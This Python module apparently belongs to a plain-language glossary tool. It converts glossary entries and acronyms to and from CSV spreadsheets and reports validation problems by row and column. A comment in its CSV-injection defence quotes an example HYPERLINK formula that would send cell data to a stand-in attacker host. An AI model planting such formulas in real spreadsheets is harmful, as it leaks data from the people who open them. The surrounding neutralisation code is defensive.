"""Glossaries to and from a spreadsheet, for panels who would rather not edit YAML.

One row per entry and one row per acronym, in the same sheet: a row is an acronym when
its 'acronym' cell is filled. Acronym rows have their own columns (acronym, expansions,
note, well_known) and share id, category, sources, status and glossary with entries; a
file of acronyms only exports as a sheet with just the acronym columns. Lists share a
cell, items separated by " | "; each source is "title; organisation; year; url" and
several sources are separated by " | " too. The file is UTF-8 with a byte order mark,
because without one Excel reads it as the local code page and mangles every curly quote.
Import checks every row with the same rules as the YAML loader and names the spreadsheet
row (the header is row 1) and column of each problem, so a panel can fix the sheet
without reading any code.
"""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from plainspeak.errors import GlossaryError
from plainspeak.glossary.edit import acronym_default_id
from plainspeak.glossary.load import Problem, _acronym, _entry, _Reader
from plainspeak.glossary.model import Acronym, Entry, Glossary, Source
from plainspeak.yamlio import LocatedDict, LocatedList, did_you_mean

COLUMNS = [
    "id", "term", "variants", "alternatives", "advice", "why", "sources", "severity", "category",
    "flag_examples", "pass_examples", "unless", "near", "not_near", "window", "scope", "not_topic",
    "topic",
    "legal_term", "law", "explain", "pos", "autofix", "word_order", "case_sensitive",
    "status", "proposed_by", "agreed_by", "reviewed", "notes", "disabled", "glossary",
]
#: Columns of acronym rows, in the order a sheet of acronyms shows them. 'id' is left out
#: of such a sheet when every acronym has the id it would get anyway (its letters in
#: lower case), so a panel does not see a column it never needs to fill in.
ACRONYM_COLUMNS = ["id", "acronym", "expansions", "note", "well_known", "category", "sources", "status",
                   "glossary"]
#: Columns only acronyms have; a sheet with entries and acronyms puts them after 'term'.
ACRONYM_ONLY = ["acronym", "expansions", "note", "well_known"]
MIXED_COLUMNS = [*COLUMNS[:2], *ACRONYM_ONLY, *COLUMNS[2:]]
#: Columns only entries have.
ENTRY_ONLY = [c for c in COLUMNS if c not in ACRONYM_COLUMNS]
LIST_COLUMNS = {"variants", "alternatives", "advice", "flag_examples", "pass_examples", "unless", "near",
                "not_near", "not_topic", "topic", "expansions"}
BOOL_COLUMNS = {"legal_term", "case_sensitive", "disabled", "well_known"}
TEXT_COLUMNS = {"id", "term", "why", "severity", "category", "autofix", "word_order", "status",
                "proposed_by", "agreed_by", "reviewed", "notes", "acronym", "note", "law", "explain", "pos"}
#: Columns that are Entry attributes (the rest describe the row, not the entry).
ENTRY_COLUMNS = [c for c in COLUMNS if c != "glossary"]
#: Columns that are Acronym attributes.
ACRONYM_ATTRS = [c for c in ACRONYM_COLUMNS if c != "glossary"]
SEPARATOR = " | "
_SPLIT = re.compile(r"\s*\|\s*|\s*\n\s*")
_TRUE = {"yes", "y", "true", "1"}
_FALSE = {"no", "n", "false", "0", ""}


# -- export ------------------------------------------------------------------------------

def _owner(item: Entry | Acronym) -> str:
    return f"acronym '{item.acronym}'" if isinstance(item, Acronym) else f"entry '{item.id}'"


def _join(items: list[str], what: str, owner: Entry | Acronym) -> str:
    for item in items:
        if "|" in item or "\n" in item:
            raise GlossaryError(f"{_owner(owner)}: {what} {item!r} contains '|' or a line break, "
                                "which a spreadsheet cell uses to separate items",
                                path=owner.file, line=owner.line, hint="reword it without '|' or line breaks")
    return SEPARATOR.join(items)


def _source_cell(owner: Entry | Acronym) -> str:
    parts = []
    for s in owner.sources:
        for name, value in (("organisation", s.organisation), ("year", s.year), ("url", s.url)):
            if ";" in value:
                raise GlossaryError(f"{_owner(owner)}: the source {name} {value!r} contains ';'",
                                    path=owner.file, line=owner.line,
                                    hint="a spreadsheet cell uses ';' between title, organisation, year and url")
        if "|" in s.title or "\n" in s.title:
            raise GlossaryError(f"{_owner(owner)}: the source title {s.title!r} contains '|' or a line break",
                                path=owner.file, line=owner.line, hint="reword the title without them")
        parts.append(f"{s.title}; {s.organisation}; {s.year}; {s.url}")
    return SEPARATOR.join(parts)


def entry_row(entry: Entry, glossary: Glossary) -> dict[str, str]:
    row: dict[str, str] = {}
    for col in COLUMNS:
        if col == "glossary":
            row[col] = glossary.name
        elif col == "sources":
            row[col] = _source_cell(entry)
        elif col in LIST_COLUMNS:
            row[col] = _join(getattr(entry, col), col.replace("_", " ").rstrip("s"), entry)
        elif col in BOOL_COLUMNS:
            row[col] = "yes" if getattr(entry, col) else "no"
        elif col == "window":
            row[col] = str(entry.window) if entry.window else ""
        elif col == "scope":
            row[col] = "" if entry.scope == "sentence" else entry.scope
        elif col == "autofix":
            row[col] = entry.autofix or ""
        else:
            row[col] = str(getattr(entry, col) or "")
    return row


def acronym_row(acronym: Acronym, glossary: Glossary) -> dict[str, str]:
    """An acronym as a row; 'id' is empty when it is the one the acronym gets anyway."""
    return {
        "id": "" if acronym.id == acronym_default_id(acronym.acronym) else acronym.id,
        "acronym": acronym.acronym,
        "expansions": _join(acronym.expansions, "expansion", acronym),
        "note": acronym.note,
        "well_known": "yes" if acronym.well_known else "no",
        "category": acronym.category,
        "sources": _source_cell(acronym),
        "status": acronym.status,
        "glossary": glossary.name,
    }


def export_columns(glossaries: list[Glossary]) -> list[str]:
    """The columns a sheet of these glossaries needs: entries, acronyms, or both."""
    acronyms = [a for g in glossaries for a in g.acronyms]
    if not acronyms:
        return list(COLUMNS)
    if any(g.entries for g in glossaries):
        return list(MIXED_COLUMNS)
    if all(a.id == acronym_default_id(a.acronym) for a in acronyms):
        return [c for c in ACRONYM_COLUMNS if c != "id"]
    return list(ACRONYM_COLUMNS)


#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
#: (OWASP's list for CSV injection): ``=HYPERLINK("http://evil.example/?"&A1)`` in a
#: contributed entry would run when a panel member opens the sheet.
_FORMULA_START = frozenset("=+-@\t\r")


def _formula_like(cell: str) -> bool:
    """Starts (after any apostrophes) with a character that makes a spreadsheet formula."""
    rest = cell.lstrip("'")
    return bool(rest) and rest[0] in _FORMULA_START


def neutralise(cell: str) -> str:
    """``'`` before a formula-like cell, as spreadsheets recommend: shown as text, never run.

    A cell that already starts with apostrophes before such a character gets one more,
    so ``restore`` gives every cell back exactly.
    """
    return "'" + cell if _formula_like(cell) else cell


def restore(cell: str) -> str:
    """Undo ``neutralise`` (the apostrophe is removed only where export put one)."""
    return cell[1:] if cell.startswith("'") and _formula_like(cell[1:]) else cell


def export_csv(glossaries: list[Glossary]) -> bytes:
    """Every entry and acronym of the glossaries as CSV bytes (UTF-8 with BOM, Excel's CRLF rows).

    Cells that a spreadsheet would run as formulas are neutralised (``neutralise``);
    ``read_csv`` undoes it.
    """
    columns = export_columns(glossaries)
    empty = dict.fromkeys(columns, "")
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\r\n", extrasaction="ignore")
    writer.writeheader()
    for glossary in glossaries:
        for entry in glossary.entries:
            writer.writerow({k: neutralise(v) for k, v in entry_row(entry, glossary).items()})
        for acronym in glossary.acronyms:
            writer.writerow({k: neutralise(v) for k, v in {**empty, **acronym_row(acronym, glossary)}.items()})
    return out.getvalue().encode("utf-8-sig")


# -- import ------------------------------------------------------------------------------

@dataclass
class ImportResult:
    entries: list[Entry] = field(default_factory=list)
    #: Entry attributes the sheet has columns for (only these change in an existing file).
    attrs: list[str] = field(default_factory=list)
    acronyms: list[Acronym] = field(default_factory=list)
    #: Acronym attributes the sheet has columns for.
    acronym_attrs: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)
    glossary_names: list[str] = field(default_factory=list)
    categories: list[str] = field(default_factory=list)


def _decode(data: bytes, path: str) -> str:
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError:
        raise GlossaryError("this spreadsheet is not saved as UTF-8", path=path,
                            hint="in Excel use File > Save As > 'CSV UTF-8 (Comma delimited)'") from None


def _header_name(raw: str) -> str:
    return raw.strip().lower().replace(" ", "_").replace("-", "_")


def read_csv(data: bytes, path: str, default_category: str = "") -> ImportResult:
    """Check and convert a spreadsheet. Problems are complete sentences naming row and column."""
    text = _decode(data, path)
    first = text.split("\n", 1)[0]
    delimiter = ","
    if "," not in first:
        delimiter = ";" if ";" in first else ("\t" if "\t" in first else ",")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    result = ImportResult()
    try:
        header = next(reader)
    except StopIteration:
        raise GlossaryError("this spreadsheet is empty", path=path,
                            hint="the first row should name the columns: id, term, alternatives, ...") from None
    except csv.Error as exc:
        raise GlossaryError(f"this spreadsheet cannot be read: {exc}", path=path, line=1,
                            hint="save it again as CSV from your spreadsheet program") from None
    names = [_header_name(h) for h in header]
    for i, name in enumerate(names):
        if name and name not in MIXED_COLUMNS:
            result.problems.append(f"{path}: column {_letter(i)} '{header[i]}' is not a column plainspeak knows "
                                   f"({did_you_mean(name, MIXED_COLUMNS)}; or delete the column)")
        elif name and names.index(name) != i:
            result.problems.append(f"{path}: column {_letter(i)} '{header[i]}' appears twice "
                                   "(delete one of the two columns)")
    if "term" not in names and "acronym" not in names:
        if "id" not in names:
            result.problems.append(f"{path}: there is no 'id' column (add a column headed 'id')")
        result.problems.append(f"{path}: there is no 'term' column (add a column headed 'term'; "
                               "or, for a sheet of acronyms, a column headed 'acronym')")
    if "term" in names and "id" not in names:
        result.problems.append(f"{path}: there is no 'id' column (add a column headed 'id')")
    if "acronym" in names and "expansions" not in names:
        result.problems.append(f"{path}: there is an 'acronym' column but no 'expansions' column "
                               "(add a column headed 'expansions' that says what each acronym stands for)")
    if result.problems:
        return result
    result.attrs = [n for n in ENTRY_COLUMNS if n in names]
    result.acronym_attrs = [n for n in ACRONYM_ATTRS if n in names]

    rows: list[tuple[int, dict[str, str]]] = []
    try:
        for number, cells in enumerate(reader, start=2):
            if not any(c.strip() for c in cells):
                continue
            if len(cells) > len(names) and any(c.strip() for c in cells[len(names):]):
                result.problems.append(f"{path}: row {number} has more cells than there are column headings "
                                       f"(move the text in column {_letter(len(names))} into the right column)")
                continue
            padded = [restore(c) for c in cells] + [""] * (len(names) - len(cells))
            rows.append((number, {name: padded[i] for i, name in enumerate(names) if name}))
    except csv.Error as exc:
        raise GlossaryError(f"this spreadsheet cannot be read: {exc}", path=path,
                            hint="save it again as CSV from your spreadsheet program") from None

    result.glossary_names = [r.get("glossary", "").strip() for _n, r in rows]
    result.categories = [r.get("category", "").strip() for _n, r in rows]
    if not default_category:
        counted = Counter(c for c in result.categories if c)
        default_category = counted.most_common(1)[0][0] if counted else ""
    glossary = Glossary(name=Path(path).stem, path=path, category=default_category)
    seen: dict[str, int] = {}
    seen_acronyms: dict[str, int] = {}
    seen_acronym_ids: dict[str, int] = {}
    for number, row in rows:
        messages: list[str] = []
        is_acronym = _is_acronym_row(row, names)
        others = ENTRY_ONLY if is_acronym else ACRONYM_ONLY
        for column in others:
            if _filled(row, column):
                messages.append(_wrong_kind(column, row[column].strip(), is_acronym))
        mapping = _row_mapping(number, {c: v for c, v in row.items() if c not in others}, names, messages)
        reader_ = _Reader(path)
        if is_acronym:
            mapping.column = 0  # a problem with the whole row names no column
            acronym = _acronym(reader_, mapping, glossary)
            messages.extend(_describe(p, names, "acronym") for p in reader_.problems if p.severity == "error")
            if acronym is not None:
                explicit_id = row.get("id", "").strip()
                if acronym.acronym in seen_acronyms:
                    messages.append(f"the acronym '{acronym.acronym}' is already on row "
                                    f"{seen_acronyms[acronym.acronym]} (give each acronym one row; "
                                    "put all its meanings in one 'expansions' cell, separated by ' | ')")
                elif explicit_id and explicit_id in seen_acronym_ids:
                    messages.append(f"column 'id': the id '{explicit_id}' is already used on row "
                                    f"{seen_acronym_ids[explicit_id]} (give each acronym its own id, "
                                    "or leave the cell empty)")
                # Remembered even when the row has other problems, so a copy is reported in the same pass.
                seen_acronyms.setdefault(acronym.acronym, number)
                if explicit_id:
                    seen_acronym_ids.setdefault(explicit_id, number)
            if messages:
                result.problems.extend(f"{path}: row {number}: {m}" for m in messages)
                continue
            if acronym is not None:
                acronym.file, acronym.line = "", 0
                result.acronyms.append(acronym)
            continue
        entry = _entry(reader_, mapping, glossary)
        messages.extend(_describe(p, names) for p in reader_.problems if p.severity == "error")
        if entry is not None and entry.id in seen:
            messages.append(f"the id '{entry.id}' is already used on row {seen[entry.id]} "
                            "(give each row its own id)")
        if messages:
            result.problems.extend(f"{path}: row {number}: {m}" for m in messages)
            continue
        if entry is not None:
            entry.file, entry.line, entry.glossary = "", 0, ""
            seen[entry.id] = number
            result.entries.append(entry)
    return result


def _filled(row: dict[str, str], column: str) -> bool:
    """Whether a cell says something ('no' in a yes/no column says nothing)."""
    cell = row.get(column, "").strip()
    return bool(cell) and not (column in BOOL_COLUMNS and cell.lower() in _FALSE)


def _is_acronym_row(row: dict[str, str], names: list[str]) -> bool:
    """A row is an acronym when its 'acronym' cell is filled (or the sheet is all acronyms)."""
    if _filled(row, "acronym") or "term" not in names:
        return True
    if "acronym" not in names or _filled(row, "term"):
        return False
    return any(_filled(row, column) for column in ACRONYM_ONLY)


def _wrong_kind(column: str, cell: str, is_acronym: bool) -> str:
    if is_acronym:
        return (f"column '{column}': this row is an acronym (its 'acronym' cell is filled), and an acronym "
                f"has no '{column}' (empty this cell; if '{cell}' belongs to a word to flag, put it on a "
                "row of its own)")
    return (f"column '{column}': this row is a word to flag (its 'term' cell is filled), and a word to flag "
            f"has no '{column}' (empty this cell; if it belongs to an acronym, put the acronym on a row "
            "of its own, in the 'acronym' column)")


def _letter(index: int) -> str:
    """Spreadsheet column letters (A, B, ... AA), as a panel sees them."""
    out = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        out = chr(65 + rem) + out
    return out


def _describe(problem: Problem, names: list[str], kind: str = "entry") -> str:
    """A loader problem as a sentence about a spreadsheet row, with a fix in spreadsheet words."""
    column = problem.column - 1
    where = f"column '{names[column]}': " if 0 <= column < len(names) else ""
    message, hint = problem.message, problem.hint
    missing = re.match(r"this entry has no '(\w+)'", message)
    if missing:
        where = ""
        hint = f"fill in the '{missing.group(1)}' column"
        if kind == "acronym":
            message = f"this row has no '{missing.group(1)}'"
    elif kind == "acronym" and re.match(r"acronym '.*' has no expansion$", message):
        hint = "fill in the 'expansions' column with what it stands for"
    return f"{where}{message}" + (f" ({hint})" if hint else "")


def _split(cell: str) -> list[str]:
    return [item for item in (part.strip() for part in _SPLIT.split(cell)) if item]


def _row_mapping(number: int, row: dict[str, str], names: list[str], messages: list[str]) -> LocatedDict:
    """A row as the loader would see the same entry in YAML, located at (row, column)."""
    m = LocatedDict()
    m.line, m.column, m.key_pos = number, 1, {}

    def put(key: str, column: str, value: object) -> None:
        m[key] = value
        m.key_pos[key] = (number, names.index(column) + 1)

    def located_list(items: list[object], column: str) -> LocatedList:
        lst = LocatedList(items)
        pos = (number, names.index(column) + 1)
        lst.line, lst.column, lst.item_pos = pos[0], pos[1], [pos] * len(items)
        return lst

    examples = LocatedDict()
    examples.line, examples.column, examples.key_pos = number, 1, {}
    context = LocatedDict()
    context.line, context.column, context.key_pos = number, 1, {}
    for column, raw in row.items():
        cell = raw.strip()
        if column == "glossary" or (not cell and column not in BOOL_COLUMNS):
            continue
        pos = (number, names.index(column) + 1)
        if column in TEXT_COLUMNS:
            put(column, column, cell)
        elif column in ("variants", "alternatives", "advice", "expansions"):
            put(column, column, located_list(list(_split(cell)), column))
        elif column in ("flag_examples", "pass_examples"):
            key = column.split("_")[0]
            examples[key] = located_list(list(_split(cell)), column)
            examples.key_pos[key] = pos
        elif column in ("unless", "near", "not_near", "not_topic", "topic"):
            context[column] = located_list(list(_split(cell)), column)
            context.key_pos[column] = pos
        elif column == "window":
            try:
                context["window"] = int(cell)
            except ValueError:
                context["window"] = cell
            context.key_pos["window"] = pos
        elif column == "scope":
            context["scope"] = cell
            context.key_pos["scope"] = pos
        elif column in BOOL_COLUMNS:
            lowered = cell.lower()
            if lowered in _TRUE or lowered in _FALSE:
                if lowered in _TRUE:
                    put(column, column, True)
            else:
                messages.append(f"column '{column}': '{cell}' should be yes or no (write yes, or no, "
                                "or leave the cell empty for no)")
        elif column == "sources":
            sources = []
            for i, item in enumerate(_split(cell), start=1):
                source = _parse_source(item)
                if source is None:
                    messages.append(f"column 'sources': source {i} ({item!r}) should be written "
                                    "'title; organisation; year; url' (leave a part empty but keep its ';', "
                                    "and separate sources with ' | ')")
                    continue
                src = LocatedDict({k: v for k, v in source.to_dict().items() if v})
                src.line, src.column, src.key_pos = pos[0], pos[1], {}
                sources.append(src)
            put("sources", column, located_list(list(sources), column))
    if examples:
        m["examples"] = examples
    if context:
        m["context"] = context
    return m


def _parse_source(item: str) -> Source | None:
    parts = [p.strip() for p in item.split(";")]
    if len(parts) == 1:
        return Source(title=parts[0], url=parts[0] if parts[0].startswith("http") else "")
    if len(parts) < 4:
        return None
    title = "; ".join(parts[:-3])
    organisation, year, url = parts[-3:]
    if not title:
        return None
    return Source(title=title, organisation=organisation, year=year, url=url)
